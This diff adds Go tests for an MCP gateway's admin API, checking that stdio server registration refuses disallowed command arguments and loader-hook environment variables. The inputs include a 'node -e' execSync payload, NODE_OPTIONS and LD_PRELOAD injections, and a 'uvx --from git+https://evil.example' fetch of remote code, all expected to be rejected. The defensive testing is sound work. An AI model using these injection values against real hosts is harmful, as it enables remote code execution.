@@ -1,0 +1,168 @@
+package admin
+
+import (
+	"encoding/json"
+	"net/http"
+	"strings"
+	"testing"
+
+	"github.com/google/go-cmp/cmp"
+	"github.com/google/go-cmp/cmp/cmpopts"
+
+	"github.com/mcpgw/mcpgw/config"
+)
+
+// noValue fails the test if the answer shows s, an env value of the
+// request.
+func noValue(s string) func(t *testing.T, ev *env, _ *http.Response, body []byte) {
+	return func(t *testing.T, ev *env, _ *http.Response, body []byte) {
+		t.Helper()
+		if strings.Contains(string(body), s) {
+			t.Errorf("the answer shows an env value: %s", body)
+		}
+	}
+}
+
+// TestRegisterStdio: a stdio server registered through the API runs a
+// command of admin.stdio_commands with arguments its entry allows, and is
+// given only variables of admin.stdio_env that are not loader or
+// interpreter hooks; anything else is refused with 403, by POST and PUT
+// alike, before anything starts.
+func TestRegisterStdio(t *testing.T) {
+	uvx := envOptions{stdio: []string{"uvx"}}
+	node := envOptions{stdio: []string{"node"}}
+	runCases(t, []apiCase{{
+		name: "a plain command with no arguments", opts: uvx, method: "POST", path: "/admin/servers", status: 201,
+		body:  `{"name":"news","transport":"stdio","command":"uvx"}`,
+		calls: []string{"Add news"},
+		check: wantView(serverView{Name: "news", Transport: "stdio", Enabled: true, State: "running", ToolCount: 2, Source: "api"}),
+	}, {
+		name: "arguments to a plain command", opts: uvx, method: "POST", path: "/admin/servers", status: 403,
+		body:    `{"name":"news","transport":"stdio","command":"uvx","args":["mcp-news"]}`,
+		message: `args ["mcp-news"] do not match admin.stdio_commands[0] (uvx)`, problems: []string{"args"},
+	}, {
+		name: "node -e", opts: node, method: "POST", path: "/admin/servers", status: 403,
+		body:    `{"name":"news","transport":"stdio","command":"node","args":["-e","require('child_process').execSync('id')"]}`,
+		message: `args ["-e","require('child_process').execSync('id')"] do not match admin.stdio_commands[0] (node)`, problems: []string{"args"},
+	}, {
+		name: "NODE_OPTIONS", opts: node, method: "POST", path: "/admin/servers", status: 403,
+		body:    `{"name":"news","transport":"stdio","command":"node","env":{"NODE_OPTIONS":"--import=data:text/javascript;base64,aW1wb3J0KCdub2RlOmZzJyk="}}`,
+		message: "env NODE_OPTIONS is never passed to a stdio server registered through the admin API", problems: []string{"env.NODE_OPTIONS"},
+		check: noValue("base64"),
+	}, {
+		name: "LD_PRELOAD", opts: uvx, method: "POST", path: "/admin/servers", status: 403,
+		body:    `{"name":"news","transport":"stdio","command":"uvx","env":{"LD_PRELOAD":"/tmp/evil.so"}}`,
+		message: "env LD_PRELOAD is never passed", problems: []string{"env.LD_PRELOAD"},
+		check: noValue("evil.so"),
+	}, {
+		name: "a hook in lower case", opts: uvx, method: "POST", path: "/admin/servers", status: 403,
+		body:    `{"name":"news","transport":"stdio","command":"uvx","env":{"npm_config_script_shell":"/tmp/sh"}}`,
+		message: "env npm_config_script_shell is never passed", problems: []string{"env.npm_config_script_shell"},
+	}, {
+		name: "PATH", opts: uvx, method: "POST", path: "/admin/servers", status: 403,
+		body:    `{"name":"news","transport":"stdio","command":"uvx","env":{"PATH":"/tmp/bin"}}`,
+		message: "env PATH is never passed", problems: []string{"env.PATH"},
+	}, {
+		name: "a variable not in admin.stdio_env", opts: uvx, method: "POST", path: "/admin/servers", status: 403,
+		body:    `{"name":"news","transport":"stdio","command":"uvx","env":{"K":"${MCPGW_UPSTREAM_X}"}}`,
+		message: "env K is not in admin.stdio_env", problems: []string{"env.K"},
+		check: noValue("x-upstream-secret"),
+	}, {
+		name: "every problem", opts: node, method: "POST", path: "/admin/servers", status: 403,
+		body:     `{"name":"news","transport":"stdio","command":"node","args":["-e","1"],"env":{"NODE_OPTIONS":"x","LD_PRELOAD":"y","K":"z"}}`,
+		message:  "args",
+		problems: []string{"args", "env.K", "env.LD_PRELOAD", "env.NODE_OPTIONS"},
+	}, {
+		name: "a replacement with NODE_OPTIONS", opts: node, method: "PUT", path: "/admin/servers/weather", status: 403,
+		body:    `{"transport":"stdio","command":"node","env":{"NODE_OPTIONS":"--require=/tmp/x.js"}}`,
+		message: "env NODE_OPTIONS is never passed", problems: []string{"env.NODE_OPTIONS"},
+		check: func(t *testing.T, ev *env, res *http.Response, body []byte) {
+			unchanged(t, ev, res, body)
+			noValue("x.js")(t, ev, res, body)
+		},
+	}, {
+		name: "a replacement with arguments", opts: node, method: "PUT", path: "/admin/servers/weather", status: 403,
+		body:    `{"transport":"stdio","command":"node","args":["-e","1"]}`,
+		message: `args ["-e","1"] do not match admin.stdio_commands[0] (node)`, problems: []string{"args"}, check: unchanged,
+	}, {
+		name: "a replacement by POST", opts: node, method: "POST", path: "/admin/servers", status: 403,
+		body:    `{"name":"weather","transport":"stdio","command":"node","env":{"LD_AUDIT":"/tmp/a.so"}}`,
+		message: "env LD_AUDIT is never passed", problems: []string{"env.LD_AUDIT"}, check: unchanged,
+	}})
+}
+
+// TestRegisterStdio_Patterns: an entry's argument patterns, and the
+// variables of admin.stdio_env.
+func TestRegisterStdio_Patterns(t *testing.T) {
+	opts := envOptions{
+		patterns: []config.StdioCommand{
+			{Command: "uvx", Args: []string{"mcp-*"}},
+			{Command: "npx", Args: []string{"-y", "@acme/mcp-fs", "**"}},
+		},
+		env: []string{"K", "NODE_OPTIONS"}, // config refuses the second; the API must too
+	}
+	runs := func(args []string, vars map[string]string) func(t *testing.T, ev *env, _ *http.Response, _ []byte) {
+		return func(t *testing.T, ev *env, _ *http.Response, _ []byte) {
+			t.Helper()
+			sc, ok := ev.m.ServerConfig("news")
+			if !ok {
+				t.Fatal("news is not in the manager")
+			}
+			if diff := cmp.Diff(args, sc.Args, cmpopts.EquateEmpty()); diff != "" {
+				t.Errorf("news's args (-want +got):\n%s", diff)
+			}
+			if diff := cmp.Diff(vars, sc.Env, cmpopts.EquateEmpty()); diff != "" {
+				t.Errorf("news's env (-want +got):\n%s", diff)
+			}
+		}
+	}
+	long := make([]string, 100)
+	for i := range long {
+		long[i] = strings.Repeat("a", 1000)
+	}
+	longBody, _ := json.Marshal(map[string]any{"name": "news", "transport": "stdio", "command": "uvx", "args": long})
+	runCases(t, []apiCase{{
+		name: "a match", opts: opts, method: "POST", path: "/admin/servers", status: 201,
+		body:  `{"name":"news","transport":"stdio","command":"uvx","args":["mcp-news"],"env":{"K":"${MCPGW_UPSTREAM_X}"}}`,
+		calls: []string{"Add news"},
+		check: runs([]string{"mcp-news"}, map[string]string{"K": "x-upstream-secret"}),
+	}, {
+		name: "a match with the rest", opts: opts, method: "POST", path: "/admin/servers", status: 201,
+		body:  `{"name":"news","transport":"stdio","command":"npx","args":["-y","@acme/mcp-fs","/srv/a","/srv/b"]}`,
+		calls: []string{"Add news"},
+		check: runs([]string{"-y", "@acme/mcp-fs", "/srv/a", "/srv/b"}, nil),
+	}, {
+		name: "a match with none of the rest", opts: opts, method: "POST", path: "/admin/servers", status: 201,
+		body:  `{"name":"news","transport":"stdio","command":"npx","args":["-y","@acme/mcp-fs"]}`,
+		calls: []string{"Add news"},
+	}, {
+		name: "no match", opts: opts, method: "POST", path: "/admin/servers", status: 403,
+		body:    `{"name":"news","transport":"stdio","command":"uvx","args":["--from","git+https://evil.example/x","mcp-news"]}`,
+		message: `args ["--from","git+https://evil.example/x","mcp-news"] do not match admin.stdio_commands[0] (uvx mcp-*)`, problems: []string{"args"},
+	}, {
+		name: "npx -y another package", opts: opts, method: "POST", path: "/admin/servers", status: 403,
+		body:    `{"name":"news","transport":"stdio","command":"npx","args":["-y","evil","@acme/mcp-fs"]}`,
+		message: `args ["-y","evil","@acme/mcp-fs"] do not match admin.stdio_commands[1] (npx -y @acme/mcp-fs **)`, problems: []string{"args"},
+	}, {
+		name: "long arguments are cut", opts: opts, method: "POST", path: "/admin/servers", status: 403,
+		body: string(longBody), problems: []string{"args"},
+		check: func(t *testing.T, ev *env, _ *http.Response, body []byte) {
+			msg := decode[errorBody](t, body).Message
+			if len(msg) > 1024 || !strings.Contains(msg, `"… 92 more"]`) || !strings.Contains(msg, strings.Repeat("a", 64)+`…"`) {
+				t.Errorf("message of %d bytes: %.300s; want at most 1 KiB, 8 arguments of 64 characters shown", len(msg), msg)
+			}
+		},
+	}, {
+		name: "a hook admin.stdio_env lists", opts: opts, method: "POST", path: "/admin/servers", status: 403,
+		body:    `{"name":"news","transport":"stdio","command":"uvx","args":["mcp-news"],"env":{"NODE_OPTIONS":"--require=/x.js"}}`,
+		message: "env NODE_OPTIONS is never passed", problems: []string{"env.NODE_OPTIONS"},
+	}, {
+		name: "a replacement that matches", opts: opts, method: "PUT", path: "/admin/servers/weather", status: 200,
+		body:  `{"transport":"stdio","command":"uvx","args":["mcp-weather"]}`,
+		calls: []string{"Replace weather"},
+	}, {
+		name: "a replacement that does not", opts: opts, method: "PUT", path: "/admin/servers/weather", status: 403,
+		body:    `{"transport":"stdio","command":"uvx","args":["mcp-weather","--verbose"]}`,
+		message: `args ["mcp-weather","--verbose"] do not match admin.stdio_commands[0] (uvx mcp-*)`, problems: []string{"args"}, check: unchanged,
+	}})
+}
